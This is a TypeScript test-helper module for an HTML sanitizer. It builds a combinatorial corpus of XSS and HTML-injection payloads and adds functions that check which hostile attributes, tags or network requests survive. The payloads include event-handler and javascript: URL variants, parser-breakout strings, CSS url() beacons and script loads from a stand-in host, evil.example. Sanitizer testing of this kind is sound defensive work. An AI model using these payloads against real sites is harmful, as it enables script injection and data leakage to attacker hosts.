/**
 * HTML that tries to run, to restyle or to call home when it is pasted, opened or inserted: every way to write a handler,
 * an address, a style and a breach of the parser, crossed with each other. No list copied from elsewhere.
 */

/** In each spelling the parser takes for the same. */
const handlers = [
  (name: string, code: string) => `${name}="${code}"`,
  (name: string, code: string) => `${name}=${code}`,
  (name: string, code: string) => `${name.toUpperCase()} = '${code}'`,
  (name: string, code: string) => `x=1/${name}\n=\n"${code}"`,
]

// prettier-ignore
const events = [
  'onclick', 'onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter',
  'onbeforeinput', 'onwheel', 'oncontentvisibilityautostatechange', 'onscrollend',
]

// prettier-ignore
const elements = [
  'p', 'div', 'span', 'b', 'a href=#', 'img src=x', 'table', 'td', 'li', 'h1', 'font', 'blockquote', 'details open', 'input autofocus',
  'svg', 'math', 'video', 'input', 'body', 'iframe', 'marquee', 'x-own',
]

/** `%`: an address. */
// prettier-ignore
const addresses = [
  '<a href="%">x</a>', '<img src="%">', '<img srcset="% 2x">', '<iframe src="%"></iframe>', '<embed src="%">',
  '<object data="%"></object>', '<form action="%"><button>x</button></form>', '<button formaction="%">x</button>',
  '<area href="%">', '<base href="%">', '<link rel="stylesheet" href="%">', '<meta http-equiv="refresh" content="0;url=%">',
  '<body background="%">x</body>', '<table background="%"><tr><td background="%">x</td></tr></table>',
  '<video src="%" poster="%"></video>', '<audio src="%"></audio>', '<picture><source srcset="%"></picture>',
  '<svg><a xlink:href="%"><text>x</text></a></svg>', '<svg><use href="%"/></svg>', '<math href="%">x</math>',
  '<svg><image href="%"/></svg>', '<blockquote cite="%">x</blockquote>', '<input type="image" src="%">',
  '<frameset><frame src="%"></frameset>',
]

// prettier-ignore
const places = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', '&#106;avascript:alert(1)', 'java&Tab;script:alert(1)',
  'java\nscript:alert(1)', ' \u0001javascript:alert(1)', 'javascript&colon;alert(1)', 'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>', '//evil.example/x', '\\\\evil.example\\share',
]

const styles = [
  ...[
    'background',
    'background-image',
    'list-style-image',
    'content',
    'cursor',
    'filter',
    'mask',
  ].flatMap((name) => [
    `${name}:url(https://evil.example/x)`,
    `${name}:u\\72l(//evil.example/x)`,
    `${name}:URL( 'https://evil.example/x' )`,
    `${name}:image-set('https://evil.example/x' 1x)`,
  ]),
  'width:expression(alert(1))',
  'width:e/**/xpression(alert(1))',
  'behavior:url(#default#time2)',
  '-moz-binding:url(https://evil.example/x#a)',
  'position:fixed;inset:0;z-index:9999',
]
const styled = [
  '<p style="%">x</p>',
  '<td style="%">x</td>',
  '<span style="%">x</span>',
  '<img src="x" style="%">',
]

/** `%`: what is to get out. */
// prettier-ignore
const breaches = [
  '<noscript><p title="</noscript>%">', '<style><p title="</style>%">', '<title><p title="</title>%">',
  '<textarea><p title="</textarea>%">', '<xmp><p title="</xmp>%">', '<template>%</template>', '<select><template>%',
  '<svg><style><a id="</style>%">', '<svg><foreignObject>%</foreignObject></svg>', '<svg><desc>%', '<!--><!-- %-->',
  '<math><mtext><table><mglyph><style><!--</style>%', '<math><annotation-xml encoding="text/html">%', '<![CDATA[%]]>',
  '<form><math><mtext></form><form><mglyph><style></math>%', '<plaintext>%', '<noembed><p title="</noembed>%">',
  '<table><caption>%', '<!--[if gte mso 9]>%<![endif]-->', '<![if !mso]>%<![endif]>', '<p title=`%`>', '<a><b%></a>',
  '<div><?php %?>', '<%\u0000>%', '<details ontoggle=1 open><summary>%', '<option><style></option></select>%',
]
const loads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
]

const cross = <One, Other>(
  ones: readonly One[],
  others: readonly Other[],
  join: (one: One, other: Other) => string,
) => ones.flatMap((one) => others.map((other) => join(one, other)))

const fill = (pattern: string, value: string) => pattern.replaceAll('%', () => value)
const spelled = cross(events, handlers, (name, write) => write(name, 'alert(1)'))

export const attackVectors: readonly string[] = [
  ...cross(
    elements,
    spelled,
    (element, handler) => `<${element} ${handler}>x</${element.split(' ')[0]}>`,
  ),
  ...cross(addresses, places, fill),
  ...cross(styled, styles, fill),
  ...cross(breaches, loads, fill),
]

const acting =
  'script, style, link, meta, base, iframe, frame, frameset, object, embed, applet, form, input, button, select, textarea, svg, math, template, audio, video, source, x-own, plaintext'

/**
 * What of them is still there: empty where nothing can run, restyle the page or lead astray. `isKept`: sent as another
 * program wrote it, pictures of the network included, which nobody here looks at.
 */
export function survivors(html: string, isKept = false): string[] {
  const inert = new DOMParser().parseFromString(html, 'text/html')
  const all = [...inert.querySelectorAll('*')]
  const isHostile = isKept ? acts : (one: Attr) => acts(one) || loadsOrHides(one)
  return [
    ...[...inert.body.querySelectorAll(acting)].map(({ tagName }) => tagName),
    ...all.flatMap((element) =>
      [...element.attributes].filter(isHostile).map(({ name, value }) => `${name}=${value}`),
    ),
  ]
}

const isAddress =
  /^(?:href|src|srcset|action|formaction|data|background|poster|cite|xlink:href|lowsrc|dynsrc)$/i
const isSafe =
  /^(?:https?:\/\/|mailto:|tel:|cid:|data:image\/(?:png|jpeg|gif|webp|bmp|avif)|blob:|#|$)/
const runs = /^(?:javascript|vbscript|livescript|feed|data:(?!image\/(?!svg)))/

const bareOf = ({ value }: Attr) => value.replaceAll(/[\u0000-\u0020]/g, '').toLowerCase()

function acts(one: Attr): boolean {
  const { name } = one
  if (/^on/i.test(name) || /^(?:srcdoc|http-equiv|autofocus)$/i.test(name)) return true
  if (/^style$/i.test(name))
    return /expression\(|behavior:|-moz-binding/.test(unescapeCss(bareOf(one)))
  return isAddress.test(name) && runs.test(bareOf(one))
}

function loadsOrHides(one: Attr): boolean {
  const bare = bareOf(one)
  if (/^style$/i.test(one.name)) return /url\(|image-set|\\|position:|z-index/.test(bare)
  return isAddress.test(one.name) && !isSafe.test(bare)
}

function unescapeCss(style: string): string {
  return style
    .replaceAll(/\/\*.*?\*\//g, '')
    .replaceAll(/\\([0-9a-f]{1,6})/g, (_whole, hex: string) =>
      String.fromCodePoint(parseInt(hex, 16)),
    )
}

/** What looking at it asks the network for. */
export function requests(root: ParentNode): string[] {
  const named = [...root.querySelectorAll('[src], [srcset], [background], [poster]')].flatMap(
    ({ attributes }) =>
      [...attributes].filter(({ name }) => /^(?:src|srcset|background|poster)$/.test(name)),
  )
  const styled = [...root.querySelectorAll('[style]')].map((one) => one.getAttribute('style') ?? '')
  return [
    ...named.map(({ value }) => value).filter((value) => !/^(?:data:image\/|blob:|$)/.test(value)),
    ...styled.filter((style) => /url\(|image-set/i.test(style)),
  ]
}
